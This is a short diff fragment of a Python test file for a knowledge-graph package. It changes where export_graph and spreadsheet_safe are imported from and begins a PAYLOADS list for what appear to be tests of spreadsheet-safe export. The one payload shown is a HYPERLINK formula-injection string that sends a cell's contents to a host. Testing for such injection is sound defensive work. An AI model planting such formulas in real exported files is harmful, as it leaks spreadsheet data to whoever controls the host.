@@ -8,8 +8,8 @@ import networkx as nx
 import pytest
 
 from kg.model import DocumentGraph, Entity, Triple
-from kg.store.formats import export_graph, spreadsheet_safe
 from kg.store.graph import KnowledgeGraph
+from kg.store.graph_files import export_graph, spreadsheet_safe
 
 PAYLOADS = [
     '=HYPERLINK("http://127.0.0.1/x?"&A1,"click")',
